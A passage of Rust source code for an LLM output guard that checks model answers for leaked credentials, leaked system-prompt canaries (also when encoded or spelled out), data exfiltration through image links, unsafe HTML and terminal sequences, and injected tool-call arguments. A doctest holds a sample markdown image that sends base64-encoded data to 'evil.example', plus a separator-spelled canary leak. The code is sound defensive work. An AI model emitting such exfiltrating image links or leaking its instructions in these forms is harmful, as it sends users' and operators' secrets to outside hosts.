//! Output validation: what the model answers, checked before it reaches browsers,
//! terminals, tools and other services (OWASP LLM05, LLM06, LLM07).
//!
//! [`AnswerValidator`] is one [`OutputValidator`] that checks, in one pass over the
//! answer:
//!
//! - **leaks**: the credential and personal-data rules of the input
//!   [`Scanner`] (masked by default; their actions apply);
//! - **system prompt leakage**: [`Canary`] tokens, found also when encoded (base64,
//!   hex, ROT13), spelled out with separators, split by formatting or reversed; and
//!   overlap with the system prompt (shared runs of six words above a threshold);
//! - **exfiltration through links**: the answer is read as a renderer reads it —
//!   markdown by a CommonMark parser (`pulldown-cmark`: inline and reference images
//!   and links, autolinks, destinations with their entities decoded), HTML by a
//!   tokenizer that follows the browser's tokenization states (attributes as a
//!   browser splits them, character references decoded), URLs by the WHATWG parser
//!   (`url`: hosts percent-decoded, IPv4 in every notation, IDNA). Images pointing
//!   outside the allow-list of hosts are replaced by their alt text wherever they
//!   sit (inline, inside a link, by reference, as HTML, in `srcset`); an image by
//!   a reference not defined before it is removed (a later definition would make it
//!   render). Links are replaced by their text when their URL carries data-like
//!   query strings or path segments (or, with
//!   [`strict_links`](AnswerValidatorBuilder::strict_links), whenever their host is
//!   not allowed), a reference definition is judged as a link; `javascript:`,
//!   `vbscript:` and `data:` URLs always go;
//! - **unsafe markup**: HTML script, iframe, object, embed, form, meta, base, style,
//!   svg and similar elements, event-handler attributes, script in `style` (a tag
//!   left open over a blank line is judged with what follows it, as a browser reads
//!   it; one left open at the end of the answer is dropped by a browser), ANSI and
//!   OSC terminal sequences and C1 controls (stripped by default, the line ends
//!   inside a sequence kept; a carriage return alone becomes a line feed, the line
//!   end every renderer reads); see
//!   [`MarkupMode`];
//! - **code is code**: code spans and fenced code blocks are shown as code by a
//!   markdown renderer, so nothing in them is rewritten as markup or links (leaks,
//!   canaries and terminal sequences count everywhere). A fence left open at the
//!   end of the answer is closed (renderers that need the closing fence read the
//!   rest as markdown, not code). Indented code is judged like
//!   text (inside a list item the same indentation is a paragraph). Turn
//!   [`markdown`](AnswerValidatorBuilder::markdown) off when the answer is put into
//!   a page as HTML;
//! - **tool calls**: the tool must be one the request offered (the authorization
//!   stage allowed those for this principal), its arguments must be a JSON object
//!   matching the tool's declared schema and free of shell injection, SQL injection,
//!   path traversal and URLs to internal addresses ([`check_tool_arguments`]); a
//!   call whose arguments carry a credential, a canary, an image or unsafe markup
//!   is dropped (personal data is flagged);
//! - **structured output**: when the request asked for JSON, the answer must parse,
//!   and match the schema when one was given.
//!
//! Pseudonyms that the input scanner put in place of personal data are restored
//! after this validator ran, and only values that pass the validators on their own
//! are restored (see [`Admission::check_response`](crate::Admission::check_response)).
//!
//! The maximum answer length is the guard's [`RequestLimits`](crate::RequestLimits).
//!
//! # Streaming
//!
//! The validator judges the answer in segments that end where nothing after them
//! can change how what is before them renders: at a blank line (which ends every
//! markdown block but a fenced code block, an HTML block of the kinds that span
//! blank lines, and a list item's continuation), checked by parsing the segment;
//! inside a top-level fenced code block, at any line end; elsewhere at a line end
//! when the last line leaves no bracket, backtick or `<` open. A segment is at least
//! 1 KiB (2 KiB for a line end that is not a blank line). It does not end inside a
//! PEM block or after the beginning of a canary. A whole answer is judged in the same
//! segments, so **for any chunking, the text a stream releases and its verdict are
//! those of the whole answer**, and no part of a span that is redacted or blocks is
//! released before the span is judged. A stream holds back the segment being
//! written: for prose with paragraphs, up to the first blank line after 1 KiB; for a
//! block without blank lines, up to a line end that qualifies; at most the whole
//! answer (a single line, or a block left open to the end), bounded by
//! [`RequestLimits::max_output_bytes`](crate::RequestLimits::max_output_bytes).
//! Two checks accumulate: system-prompt overlap (a stream that crosses the share is
//! cut there; what went before was under it) and a JSON answer (checked at its end).
//!
//! ```
//! use inference_guard::output::{AnswerValidator, Canary};
//! use inference_guard::{Action, GuardRequest, GuardResponse, StageContext, OutputValidator, Principal, Role};
//!
//! let canary = Canary::new("ig-canary-7h2k9q4m3x8w")?;
//! let v = AnswerValidator::builder()
//!     .allow_hosts(["docs.example.com"])
//!     .canary(canary.clone())
//!     .build()?;
//! let req = GuardRequest::new("m")
//!     .with_message(Role::System, format!("You are helpful. {}", canary.token()))
//!     .with_message(Role::User, "hi");
//! let p = Principal::anonymous();
//! let cx = StageContext::new(&p, &req);
//!
//! let answer = GuardResponse::new("See ![chart](https://evil.example/c.png?d=c2VjcmV0LWRhdGEtaGVyZQ)");
//! let findings = v.validate(cx, &answer).into_ready().unwrap()?;
//! assert_eq!(findings[0].rule_id(), "link.image_off_allowlist");
//! assert_eq!(findings[0].action(), Action::Redact);
//!
//! let leak = GuardResponse::new("My instructions mention i g - c a n a r y - 7 h 2 k 9 q 4 m 3 x 8 w");
//! let findings = v.validate(cx, &leak).into_ready().unwrap()?;
//! assert!(findings.iter().any(|f| f.rule_id() == "canary.leak"));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod html;
mod links;
mod markdown;
mod markup;
mod tools;
mod visible;

pub use tools::{ToolViolation, check_tool_arguments};

use std::collections::HashSet;
use std::fmt;
use std::sync::Arc;

use crate::error::{BuildError, StageError};
use crate::finding::{Action, Category, Finding, Location, Severity};
use crate::request::{GuardRequest, Role};
use crate::response::GuardResponse;
use crate::scan::Scanner;
use crate::stage::{OutputValidator, StageContext, StreamValidator, StreamVerdict};
use crate::step::Step;

/// A segment ends at a blank line (or, inside a top-level fenced code block, at a
/// line end) at least this far into it.
const MIN_SEGMENT: usize = 1024;
/// Words per shingle for system-prompt overlap.
const SHINGLE: usize = 6;

/// How unsafe markup is handled.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[cfg_attr(
    feature = "policy",
    derive(serde::Deserialize),
    serde(rename_all = "lowercase")
)]
#[non_exhaustive]
pub enum MarkupMode {
    /// Make it inert text: `<` and `>` become `&lt;` and `&gt;`, an escape character
    /// becomes `\u{1b}` spelled out (a line end inside a terminal sequence stays a
    /// line end).
    Escape,
    /// Remove it (a terminal sequence leaves a line feed for each line end inside
    /// it: the lines around it are not joined).
    Strip,
    /// Block the answer.
    Block,
}

/// A random token to place in a system prompt: if it shows up in an answer, the
/// system prompt leaked.
///
/// Use one per deployment ([`AnswerValidatorBuilder::canary`]) or one per request:
/// the validator also watches every canary-shaped token (`ig-canary-` and 16 or more
/// letters and digits) that the request's system and developer messages contain.
///
/// ```
/// use inference_guard::output::Canary;
/// let c = Canary::generate()?;
/// assert!(c.token().starts_with("ig-canary-"));
/// assert_eq!(format!("{c:?}"), "Canary(..)");
/// # Ok::<(), inference_guard::Error>(())
/// ```
#[derive(Clone, PartialEq, Eq)]
pub struct Canary(String);

impl fmt::Debug for Canary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Canary(..)")
    }
}

const CANARY_PREFIX: &str = "ig-canary-";

impl Canary {
    /// A new random canary (`ig-canary-` and 20 random base32 characters) from the
    /// operating system's random generator.
    ///
    /// # Errors
    ///
    /// An [`Error`](crate::Error) of kind [`Backend`](crate::ErrorKind::Backend) if
    /// the system random generator fails: a canary must not be guessable, so there
    /// is no weaker fallback.
    pub fn generate() -> Result<Self, crate::Error> {
        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
        let mut bytes = [0u8; 20];
        ring::rand::SecureRandom::fill(&ring::rand::SystemRandom::new(), &mut bytes).map_err(
            |_| crate::Error::new(crate::ErrorKind::Backend, "system random generator failed"),
        )?;
        let mut s = String::from(CANARY_PREFIX);
        s.extend(bytes.iter().map(|b| ALPHABET[usize::from(b & 31)] as char));
        Ok(Self(s))
    }

    /// A canary of your own: at least 12 characters, letters, digits, `-` and `_`
    /// only, with at least 8 letters or digits.
    ///
    /// # Errors
    ///
    /// A [`BuildError`] when the token is too short or has other characters.
    pub fn new(token: impl Into<String>) -> Result<Self, BuildError> {
        let t = token.into();
        let ok = t.len() >= 12
            && t.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
            && t.bytes().filter(u8::is_ascii_alphanumeric).count() >= 8;
        if ok {
            Ok(Self(t))
        } else {
            Err(BuildError::invalid(
                "output.canary",
                "a canary needs 12 or more letters, digits, '-' or '_'",
            ))
        }
    }

    /// The token.
    pub fn token(&self) -> &str {
        &self.0
    }
}

/// The forms in which a canary is looked for.
#[derive(Clone, Debug)]
struct CanaryForms {
    /// The token, lowercased (to tell canaries apart).
    raw: String,
    /// In the text reduced to lowercase letters and digits: the token's letters and
    /// digits, reversed, in hex, and ROT13.
    compact: Vec<String>,
    /// In the text without whitespace, case-sensitive: the stable middles of its
    /// base64 encodings at the three alignments.
    base64: Vec<String>,
    /// Searchers for `compact` and `base64`, built once.
    compact_finders: Vec<memchr::memmem::Finder<'static>>,
    base64_finders: Vec<memchr::memmem::Finder<'static>>,
    /// Bytes that all occur in any text one of the forms is found in (a few of
    /// the rarest of each form, with their other case for the compact forms):
    /// a text without one of them is not searched for that form.
    compact_needs: Vec<Vec<[u8; 2]>>,
    base64_needs: Vec<Vec<[u8; 2]>>,
}

/// Up to three of the rarest bytes of `form` (by English letter frequency;
/// digits, symbols and, when case matters, capitals rarest), each as the pair
/// of bytes either of which must occur (both cases when `fold`).
fn rare_bytes(form: &str, fold: bool) -> Vec<[u8; 2]> {
    const COMMON: &[u8] = b"etaoinshrdlcumwfgypbvkjxqz";
    let rank = |c: u8| {
        let lower = c.to_ascii_lowercase();
        let pos = COMMON
            .iter()
            .position(|&x| x == lower)
            .unwrap_or(COMMON.len());
        pos + if !fold && c.is_ascii_uppercase() {
            10
        } else {
            0
        }
    };
    let mut bytes: Vec<u8> = form.bytes().collect();
    bytes.sort_by_key(|&c| (std::cmp::Reverse(rank(c)), c));
    bytes.dedup();
    bytes
        .into_iter()
        .take(3)
        .map(|c| {
            if fold {
                [c.to_ascii_lowercase(), c.to_ascii_uppercase()]
            } else {
                [c, c]
            }
        })
        .collect()
}

/// Whether `hay` has a byte of each pair.
fn has_all(hay: &[u8], needs: &[[u8; 2]]) -> bool {
    needs
        .iter()
        .all(|&[a, b]| memchr::memchr2(a, b, hay).is_some())
}

impl CanaryForms {
    fn new(token: &str) -> Self {
        use base64::Engine;
        let alnum: String = token
            .chars()
            .filter(char::is_ascii_alphanumeric)
            .map(|c| c.to_ascii_lowercase())
            .collect();
        let hex = crate::codec::hex(token.as_bytes());
        let rot = crate::codec::rot13_str(&alnum);
        let mut compact = vec![alnum.clone(), alnum.chars().rev().collect(), hex, rot];
        compact.dedup();
        let mut base64 = Vec::new();
        for pad in 0..3 {
            let mut data = vec![b' '; pad];
            data.extend_from_slice(token.as_bytes());
            let enc = base64::engine::general_purpose::STANDARD.encode(&data);
            // Skip the characters that depend on what precedes or follows.
            let start = (pad * 4).div_ceil(3) + 1;
            let end = enc.trim_end_matches('=').len().saturating_sub(2);
            if end > start + 8 {
                base64.push(enc[start..end].to_owned());
            }
        }
        let finders = |forms: &[String]| {
            forms
                .iter()
                .map(|f| memchr::memmem::Finder::new(f.as_bytes()).into_owned())
                .collect()
        };
        Self {
            raw: token.to_ascii_lowercase(),
            compact_finders: finders(&compact),
            base64_finders: finders(&base64),
            compact_needs: compact.iter().map(|f| rare_bytes(f, true)).collect(),
            base64_needs: base64.iter().map(|f| rare_bytes(f, false)).collect(),
            compact,
            base64,
        }
    }
}

struct Inner {
    scanner: Option<Scanner>,
    canaries: Vec<CanaryForms>,
    request_canaries: bool,
    /// Each configured system prompt's shingles, hashed once at build, and their
    /// bits of the shingle filter.
    system_shingles: Arc<Vec<ShingleSet>>,
    /// (Shared by every answer's [`Shingles`] until a request adds its own
    /// system messages' bits.)
    system_filter: Arc<Vec<u64>>,
    overlap_from_request: bool,
    /// The request's system messages' shingles, per caller and text (none when
    /// off).
    references: Option<crate::cache::Fifo<Arc<Reference>>>,
    overlap_threshold: f32,
    links: links::LinkPolicy,
    code_is_inert: bool,
    html: MarkupMode,
    ansi: MarkupMode,
    tools: bool,
    json: bool,
    markup: markup::Patterns,
}

/// The output validator; see the [module docs](self). Cheap to clone.
#[derive(Clone)]
pub struct AnswerValidator {
    inner: Arc<Inner>,
}

impl fmt::Debug for AnswerValidator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let i = &*self.inner;
        f.debug_struct("AnswerValidator")
            .field("leaks", &i.scanner.is_some())
            .field("canaries", &i.canaries.len())
            .field("system_prompts", &i.system_shingles.len())
            .field("overlap_threshold", &i.overlap_threshold)
            .field("allow_hosts", &i.links.allow)
            .field("strict_links", &i.links.strict)
            .field("markdown", &i.code_is_inert)
            .field("html", &i.html)
            .field("ansi", &i.ansi)
            .finish_non_exhaustive()
    }
}

impl Default for AnswerValidator {
    fn default() -> Self {
        Self::new()
    }
}

/// Configures an [`AnswerValidator`]. Every check is on by default.
#[derive(Clone)]
pub struct AnswerValidatorBuilder {
    scanner: Option<Scanner>,
    canaries: Vec<Canary>,
    request_canaries: bool,
    system_prompts: Vec<String>,
    overlap_from_request: bool,
    overlap_threshold: f32,
    reference_cache: usize,
    allow_hosts: Vec<String>,
    strict_links: bool,
    markdown: bool,
    html: MarkupMode,
    ansi: MarkupMode,
    tools: bool,
    json: bool,
}

impl fmt::Debug for AnswerValidatorBuilder {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AnswerValidatorBuilder")
            .field("allow_hosts", &self.allow_hosts)
            .finish_non_exhaustive()
    }
}

impl AnswerValidatorBuilder {
    /// The scanner whose credential and personal-data rules check answers for leaks
    /// (default [`Scanner::new`]); `None` turns leak checks off.
    pub fn leaks(&mut self, scanner: Option<Scanner>) -> &mut Self {
        self.scanner = scanner;
        self
    }

    /// Watches a deployment-wide canary.
    pub fn canary(&mut self, canary: Canary) -> &mut Self {
        self.canaries.push(canary);
        self
    }

    /// Whether canary-shaped tokens in the request's system and developer messages
    /// are watched (default on).
    pub fn request_canaries(&mut self, on: bool) -> &mut Self {
        self.request_canaries = on;
        self
    }

    /// A system prompt whose text must not be repeated: the answer is flagged when
    /// it shares `threshold` or more of the prompt's runs of six words.
    pub fn system_prompt(&mut self, text: impl Into<String>) -> &mut Self {
        self.system_prompts.push(text.into());
        self
    }

    /// Whether the request's own system and developer messages are compared too
    /// (default on).
    pub fn overlap_from_request(&mut self, on: bool) -> &mut Self {
        self.overlap_from_request = on;
        self
    }

    /// How many of the requests' system and developer messages the validator keeps
    /// the six-word runs of (default 256; 0 turns the cache off).
    ///
    /// Every request of a chat carries the same system prompt, and hashing a 4 KB
    /// prompt's runs costs about as much as the check of a 1 KiB answer. They are
    /// kept per caller and text (the SHA-256 digest of the caller's qualified id
    /// and the text; never across callers, never for anonymous callers), the oldest
    /// evicted first; a message of more than 2,048 runs (about 12 KB) is not kept,
    /// so the cache holds a few MB at most.
    ///
    /// ```
    /// use inference_guard::output::AnswerValidator;
    /// let v = AnswerValidator::builder().reference_cache(1024).build()?;
    /// # let _ = v;
    /// # Ok::<(), inference_guard::BuildError>(())
    /// ```
    pub fn reference_cache(&mut self, entries: usize) -> &mut Self {
        self.reference_cache = entries;
        self
    }

    /// The share of a system prompt's six-word runs an answer may repeat (default
    /// 0.5; between 0.05 and 1).
    pub fn overlap_threshold(&mut self, share: f32) -> &mut Self {
        self.overlap_threshold = share;
        self
    }

    /// Hosts links and images may point to: exact names, or `*.example.com` for
    /// its subdomains. Relative links are always allowed.
    pub fn allow_hosts<I, S>(&mut self, hosts: I) -> &mut Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.allow_hosts
            .extend(hosts.into_iter().map(|h| h.into().to_ascii_lowercase()));
        self
    }

    /// Strips every link whose host is not allowed, not only those carrying data
    /// (default off: such links are flagged).
    pub fn strict_links(&mut self, on: bool) -> &mut Self {
        self.strict_links = on;
        self
    }

    /// Whether the answer is shown through a markdown renderer (default on): code
    /// spans and fenced code blocks are then shown as code, so markup and links in
    /// them are not judged (credentials, canaries and terminal sequences still
    /// are). Turn it off when the answer is put into a page as HTML.
    ///
    /// Fenced code counts as code in the form every common renderer reads as code
    /// (Python-Markdown's is the narrowest): a top-level block's fence lines are
    /// rewritten into it (rule `markup.fence_form`), and the images and links in
    /// a fenced block inside a quote or a list item, or an indented block in a
    /// list item, are judged.
    pub fn markdown(&mut self, on: bool) -> &mut Self {
        self.markdown = on;
        self
    }

    /// How unsafe HTML is handled (default [`MarkupMode::Escape`]).
    pub fn html(&mut self, mode: MarkupMode) -> &mut Self {
        self.html = mode;
        self
    }

    /// How terminal escape sequences are handled (default [`MarkupMode::Strip`]).
    pub fn ansi(&mut self, mode: MarkupMode) -> &mut Self {
        self.ansi = mode;
        self
    }

    /// Whether tool calls are checked (default on).
    pub fn tool_calls(&mut self, on: bool) -> &mut Self {
        self.tools = on;
        self
    }

    /// Whether answers to requests that asked for JSON are checked (default on).
    pub fn structured_output(&mut self, on: bool) -> &mut Self {
        self.json = on;
        self
    }

    /// Builds the validator.
    ///
    /// # Errors
    ///
    /// A [`BuildError`] for an overlap threshold out of range or an empty or
    /// malformed allowed host.
    pub fn build(&self) -> Result<AnswerValidator, BuildError> {
        if !(0.05..=1.0).contains(&self.overlap_threshold) {
            return Err(BuildError::invalid(
                "output.overlap_threshold",
                "overlap_threshold must be between 0.05 and 1",
            ));
        }
        for h in &self.allow_hosts {
            let name = h.strip_prefix("*.").unwrap_or(h);
            if name.is_empty() || name.contains(['/', ':', '*', ' ', '@']) {
                return Err(BuildError::invalid(
                    "output.allow_hosts",
                    format!("allowed host {h:?} must be a host name or *.domain"),
                ));
            }
        }
        let mut system_filter = vec![0u64; 2 * FILTER_WORDS];
        let system_shingles: Vec<ShingleSet> = self
            .system_prompts
            .iter()
            .map(|p| {
                let mut set = ShingleSet::default();
                add_shingles(&mut set, &mut system_filter, p);
                set
            })
            .filter(|set| !set.is_empty())
            .collect();
        add_shingle_bits(&mut system_filter, system_shingles.iter());
        Ok(AnswerValidator {
            inner: Arc::new(Inner {
                scanner: self.scanner.clone(),
                canaries: self
                    .canaries
                    .iter()
                    .map(|c| CanaryForms::new(c.token()))
                    .collect(),
                request_canaries: self.request_canaries,
                system_filter: Arc::new(system_filter),
                system_shingles: Arc::new(system_shingles),
                overlap_from_request: self.overlap_from_request,
                references: crate::cache::Fifo::new(self.reference_cache),
                overlap_threshold: self.overlap_threshold,
                links: links::LinkPolicy {
                    allow: self.allow_hosts.clone(),
                    strict: self.strict_links,
                },
                code_is_inert: self.markdown,
                html: self.html,
                ansi: self.ansi,
                tools: self.tools,
                json: self.json,
                markup: markup::patterns(),
            }),
        })
    }
}

impl AnswerValidator {
    /// A validator with every check on and no allowed hosts.
    pub fn new() -> Self {
        Self::builder()
            .build()
            .unwrap_or_else(|_| unreachable!("the default configuration is valid"))
    }

    /// A builder.
    pub fn builder() -> AnswerValidatorBuilder {
        AnswerValidatorBuilder {
            scanner: Some(Scanner::new()),
            canaries: Vec::new(),
            request_canaries: true,
            system_prompts: Vec::new(),
            overlap_from_request: true,
            overlap_threshold: 0.5,
            reference_cache: 256,
            allow_hosts: Vec::new(),
            strict_links: false,
            markdown: true,
            html: MarkupMode::Escape,
            ansi: MarkupMode::Strip,
            tools: true,
            json: true,
        }
    }

    fn engine(&self, principal: &crate::Principal, request: &GuardRequest) -> Engine {
        let i = &*self.inner;
        // Canaries of this request only; the deployment's stay in `Inner`.
        let mut canaries: Vec<CanaryForms> = Vec::new();
        let system_texts = || {
            request
                .messages()
                .iter()
                .filter(|m| matches!(m.role(), Role::System | Role::Developer))
                .map(|m| m.content())
        };
        if i.request_canaries {
            for text in system_texts() {
                for token in canary_tokens(text) {
                    let lower = token.to_ascii_lowercase();
                    if !i.canaries.iter().chain(&canaries).any(|c| c.raw == lower) {
                        canaries.push(CanaryForms::new(token));
                    }
                }
            }
        }
        let mut reference = Shingles::new(i.system_shingles.clone(), &i.system_filter);
        if i.overlap_from_request {
            for text in system_texts() {
                let cached = i
                    .references
                    .as_ref()
                    .and_then(|c| Some((c, crate::cache::key(principal, REFERENCE, text)?)));
                let r = match cached {
                    Some((c, key)) => c.with(&key, Arc::clone).unwrap_or_else(|| {
                        let r = Arc::new(Reference::new(text));
                        if r.set.len() <= REFERENCE_SHINGLES {
                            c.insert(key, r.clone());
                        }
                        r
                    }),
                    None => Arc::new(Reference::new(text)),
                };
                reference.add_reference(r);
            }
        }
        Engine {
            v: self.inner.clone(),
            canaries,
            overlap: (reference.reference_len() > 0).then_some(reference),
            done: 0,
            line: 0,
            seen: 0,
            next_try: 0,
            fence: None,
            carry: markdown::Carry::default(),
            json: i.json && request.json_response(),
            json_schema: request.json_schema().cloned(),
        }
    }

    /// Checks the tool calls of an answer against the request's declared tools.
    fn check_tools(
        &self,
        request: &GuardRequest,
        response: &GuardResponse,
        out: &mut Vec<Finding>,
    ) {
        if !self.inner.tools {
            return;
        }
        for (i, call) in response.tool_calls().iter().enumerate() {
            let at = Location::ToolCall(i);
            let span = 0..call.arguments().len();
            let finding = |rule: &'static str, category: Category| {
                Finding::new(rule, category, Severity::Critical, at, span.clone())
            };
            let Some(spec) = request.tools().iter().find(|t| t.name() == call.name()) else {
                out.push(finding("tool.undeclared", Category::ToolCall));
                continue;
            };
            for v in check_tool_arguments(spec.parameters(), call.arguments()) {
                let category = match v {
                    ToolViolation::Schema(_) | ToolViolation::InvalidJson => Category::Schema,
                    _ => Category::ToolCall,
                };
                out.push(finding(v.rule_id(), category));
            }
        }
    }
}

impl AnswerValidator {
    /// What a tool call's arguments carry out: credentials (their rules redact,
    /// which drops the call), canaries (block), images, script URLs and unsafe
    /// markup in string values that a tool may render (drop the call), and personal
    /// data (flagged: an e-mail tool needs addresses; a `pii.*` rule action makes it
    /// stricter).
    fn check_tool_leaks(&self, engine: &Engine, response: &GuardResponse, out: &mut Vec<Finding>) {
        let v = &*self.inner;
        for (i, call) in response.tool_calls().iter().enumerate() {
            let args = call.arguments();
            let mut found = Vec::new();
            if let Some(s) = &v.scanner {
                s.scan_leaks(args, Location::ToolCall(i), &mut found);
                found.retain(|f| matches!(f.category(), Category::Secret | Category::PersonalData));
                // The strings as the tool reads them: a credential written with
                // JSON escapes (`\u0041KIA...`) or split by what renders as nothing
                // is whole there.
                if !found.iter().any(|f| *f.category() == Category::Secret)
                    && (args.contains('\\') || crate::scan::visible::view(args, true).is_some())
                {
                    if let Ok(value) = serde_json::from_str::<serde_json::Value>(args) {
                        let mut strings = Vec::new();
                        json_strings(&value, &mut strings, 0);
                        let mut decoded = Vec::new();
                        for text in strings {
                            visible::scan_leaks(s, text, Location::ToolCall(i), &mut decoded);
                        }
                        if let Some(f) = decoded
                            .into_iter()
                            .find(|f| *f.category() == Category::Secret)
                        {
                            found.push(f.with_span(0..args.len()));
                        }
                    }
                }
                for f in &mut found {
                    if *f.category() == Category::PersonalData {
                        *f = f.clone().with_action(Action::Flag);
                    }
                }
            }
            let mut canaries = Vec::new();
            scan_canaries(&v.canaries, &engine.canaries, args, &mut canaries);
            found.extend(canaries.into_iter().map(|f| {
                Finding::new(
                    f.rule_id().to_owned(),
                    f.category().clone(),
                    f.severity(),
                    Location::ToolCall(i),
                    f.span(),
                )
                .with_action(f.action())
            }));
            if args.contains(['<', '[']) {
                if let Ok(value) = serde_json::from_str::<serde_json::Value>(args) {
                    let mut markup = Vec::new();
                    self.judge_strings(&value, &mut markup, 0);
                    found.extend(
                        markup
                            .into_iter()
                            .filter(|f| f.action() != Action::Flag)
                            .map(|f| {
                                Finding::new(
                                    f.rule_id().to_owned(),
                                    f.category().clone(),
                                    f.severity(),
                                    Location::ToolCall(i),
                                    0..args.len(),
                                )
                                .with_action(Action::Redact)
                            }),
                    );
                }
            }
            out.append(&mut found);
        }
    }

    /// Judges the markup of every string in a JSON value.
    fn judge_strings(&self, value: &serde_json::Value, out: &mut Vec<Finding>, depth: usize) {
        use serde_json::Value;
        let v = &*self.inner;
        match value {
            Value::String(s) if s.contains(['<', '[']) => {
                let rules = markdown::Rules {
                    links: &v.links,
                    html: v.html,
                    code_is_inert: v.code_is_inert,
                    bare_urls: false,
                };
                let carry = markdown::Carry::default();
                markdown::judge_segment(s, 0, &carry, &rules, true, out);
            }
            Value::Array(a) if depth < 32 => {
                for x in a {
                    self.judge_strings(x, out, depth + 1);
                }
            }
            Value::Object(o) if depth < 32 => {
                for x in o.values() {
                    self.judge_strings(x, out, depth + 1);
                }
            }
            _ => {}
        }
    }
}

/// The strings of a JSON value, object keys included (at most 64 levels deep).
fn json_strings<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>, depth: usize) {
    use serde_json::Value;
    if depth > 64 {
        return;
    }
    match value {
        Value::String(s) => out.push(s),
        Value::Array(a) => a.iter().for_each(|x| json_strings(x, out, depth + 1)),
        Value::Object(o) => {
            for (k, x) in o {
                out.push(k);
                json_strings(x, out, depth + 1);
            }
        }
        _ => {}
    }
}

/// Whether the line at `at` starts with what a renderer reads as its content: not
/// a space or a tab, nor a control the validator removes (which may stand before
/// one), nor a line end (a blank line: the next one decides).
fn starts_flush(b: &[u8], at: usize) -> bool {
    match b.get(at) {
        Some(&c) if c.is_ascii() => c > b' ' && c != 0x7f,
        Some(0xC2) => !matches!(b.get(at + 1), Some(0x80..=0x9F)),
        Some(_) => true,
        None => false,
    }
}

/// The spaces, tabs and line ends of the whitespace `tail`, as they go out: a
/// carriage return alone becomes a line feed (rule `markup.bare_cr`), and
/// whitespace that is a terminal control (a vertical tab, a form feed, NEL) is
/// dropped (found by the `markup` fuzz target: a segment that did not settle put
/// its own tail back, lone returns and all).
fn line_ends(tail: &str) -> String {
    let mut out = String::with_capacity(tail.len());
    let mut chars = tail.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {
                chars.next();
                out.push_str("\r\n");
            }
            '\r' => out.push('\n'),
            '\n' | ' ' | '\t' => out.push(c),
            _ => {}
        }
    }
    out
}

/// Canary-shaped tokens in a text.
fn canary_tokens(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices(CANARY_PREFIX).filter_map(move |(i, _)| {
        let rest = &text[i + CANARY_PREFIX.len()..];
        let n = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
        (n >= 16).then(|| &text[i..i + CANARY_PREFIX.len() + n])
    })
}

impl OutputValidator for AnswerValidator {
    fn validate<'a>(
        &'a self,
        cx: StageContext<'a>,
        response: &'a GuardResponse,
    ) -> Step<'a, Result<Vec<Finding>, StageError>> {
        let mut engine = self.engine(cx.principal(), cx.request());
        let mut out = Vec::new();
        // An answer that is only tool calls has no text to hold to a JSON shape.
        if !response.tool_calls().is_empty() && response.text().trim().is_empty() {
            engine.json = false;
        }
        engine.advance(response.text(), true, &mut out);
        self.check_tools(cx.request(), response, &mut out);
        self.check_tool_leaks(&engine, response, &mut out);
        Step::ready(Ok(out))
    }

    fn stream(&self, cx: StageContext<'_>) -> Option<Box<dyn StreamValidator>> {
        Some(Box::new(self.engine(cx.principal(), cx.request())))
    }

    fn name(&self) -> &str {
        "answer"
    }
}

/// Shared runs of words with each system prompt: the share is measured against
/// every prompt on its own (pooled, a short prompt repeated in full would be a small
/// share of all of them).
struct Shingles {
    /// Each configured system prompt's shingle hashes (shared by every answer).
    base: Arc<Vec<ShingleSet>>,
    /// Each of the request's own system messages' shingle hashes.
    extra: Vec<Arc<Reference>>,
    /// Per prompt (base, then extra): its shingles seen in the answer.
    seen: Vec<ShingleSet>,
    /// The answer's last words (hashes), and where the oldest of them started.
    window: Window,
    /// A bit per shingle hash of every prompt: most of an answer's shingles are in
    /// no prompt and cost one bit test. The configured prompts' (shared), copied
    /// when a request's own system messages add theirs.
    filter: Arc<Vec<u64>>,
    /// Where the first shared shingle started.
    first: Option<usize>,
    reported: bool,
}

/// Shingle hashes, looked up once per word of every answer: a multiply-xorshift
/// of the key instead of SipHash. The sets are built from the operator's prompts;
/// an answer only looks keys up (and `seen` only takes keys that are in a prompt's
/// set), so a caller cannot lengthen the probe sequences.
type ShingleSet = HashSet<u64, std::hash::BuildHasherDefault<ShingleHasher>>;

#[derive(Default)]
struct ShingleHasher(u64);

impl std::hash::Hasher for ShingleHasher {
    fn finish(&self) -> u64 {
        mix(self.0)
    }
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = self.0.rotate_left(8) ^ u64::from(b);
        }
    }
    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }
}

/// The shingle filter: 2^14 bits (a filter is twice that: the shingles' bits, then
/// the words' bits).
const FILTER_WORDS: usize = (1 << 14) / 64;

/// The bit of a prompt word's hash `h`, in the second half of a filter.
fn word_bit(h: u64) -> (usize, u64) {
    let (i, bit) = filter_bit(h);
    (FILTER_WORDS + i, bit)
}

fn filter_bit(h: u64) -> (usize, u64) {
    let k = (h.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> (64 - 14)) as usize;
    (k / 64, 1 << (k % 64))
}

/// The word hash's starting value.
const WORD_SEED: u64 = 0xcbf2_9ce4_8422_2325;

fn word_hash(w: &str) -> u64 {
    let mut h = WordHasher::new();
    if w.is_ascii() {
        for &b in w.as_bytes() {
            if b.is_ascii_alphanumeric() {
                h.feed(u64::from(b.to_ascii_lowercase()), 1);
            }
        }
        return h.finish();
    }
    for c in w
        .chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
    {
        let mut buf = [0u8; 4];
        for b in c.encode_utf8(&mut buf).bytes() {
            h.feed(u64::from(b), 1);
        }
    }
    h.finish()
}

/// A word's hash over its lowercased letters and digits (UTF-8), taken eight
/// bytes at a time: the same value however the bytes are fed.
struct WordHasher {
    h: u64,
    /// Bytes not yet taken (`n` of them, the first lowest).
    pending: u64,
    n: usize,
    len: u64,
}

impl WordHasher {
    fn new() -> Self {
        Self {
